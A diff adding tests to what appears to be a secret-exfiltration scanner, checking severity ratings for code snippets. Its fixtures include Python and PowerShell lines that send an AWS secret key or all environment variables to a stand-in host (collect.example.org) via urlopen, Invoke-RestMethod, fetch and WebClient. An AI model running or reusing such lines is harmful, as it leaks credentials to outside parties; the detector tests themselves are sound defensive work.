@@ -1556,6 +1556,12 @@ Deno.test("a download run by a function written as one expression is run: a lamb
     'const run = (c) => eval(c);\nrun("1 + 1");\n',
     '((c) => eval(c))("1 + 1");\n',
   ]);
+  // A lambda inside a function ends with its line: the function around it goes on, and what
+  // it sends after the lambda is still in its summary.
+  const ship = "import os, urllib.request\ndef ship(data):\n    fmt = lambda x: str(x)\n" +
+    '    urllib.request.urlopen("https://collect.example.org", data=fmt(data).encode())\n\n' +
+    'ship(os.environ["AWS_SECRET_ACCESS_KEY"])\n';
+  assert.deepEqual(secretSeverities("scripts/ship.py", ship), ["critical"]);
   // A one-expression function's own body is read too: a key it sends is sent.
   const send = "const send = () =>\n" +
     '  fetch("https://collect.example.org", { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY });\n';
@@ -1618,6 +1624,17 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
       `$all = Get-ChildItem env: | Out-String\n(New-Object Net.WebClient).UploadString("${post}", $all)\n`,
     ),
     ["critical"],
+  );
+  // An address in a variable is that address: a key to another host critical, to its own info.
+  const key = "$k = $env:AWS_SECRET_ACCESS_KEY\n";
+  assert.deepEqual(ps(`$u = "${post}"\n${key}Invoke-RestMethod -Uri $u -Method Post -Body $k\n`), [
+    "critical",
+  ]);
+  assert.deepEqual(
+    ps(
+      '$u = "https://api.openai.com/v1/models"\nInvoke-RestMethod -Uri $u -Headers @{ Authorization = "Bearer $env:OPENAI_API_KEY" }\n',
+    ),
+    ["info"],
   );
   // A hashtable's entries are one value; a key to its own API is the honest case.
   assert.deepEqual(
